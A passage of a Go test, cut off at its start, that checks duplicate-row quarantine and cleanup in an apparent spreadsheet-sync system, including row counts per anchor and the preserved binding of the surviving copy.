	mustT(t, person.Type(partInput, fmt.Sprintf("D%d", at), "edited copy"))
	x.poll() // I16: all copies quarantined, nothing applied
	for range 3 {
		if _, err := x.h.Cleanup(ctx); err != nil {
			t.Fatal(err)
		}
		x.drain()
	}
	count := map[string]int{}
	for _, r := range x.rows(partInput)[1:] {
		count[r[len(r)-1]]++
	}
	if count["2"] != 1 || count["3"] != 2 || count["1"] != 1 {
		t.Fatalf("rows per anchor after cleanup: %v", count)
	}
	x.fullScan()
	if q := x.quarantine(partInput); len(q["2"]) != 0 || !hasReason(q["3"], aggregates.ReasonDuplicateAnchor) {
		t.Fatalf("evidence after cleanup: %v", q)
	}
	x.typeIn("2", "notes", "still bound")
	x.poll()
	if x.part("2").Notes != "still bound" {
		t.Fatal("the surviving copy lost its binding")
	}
}
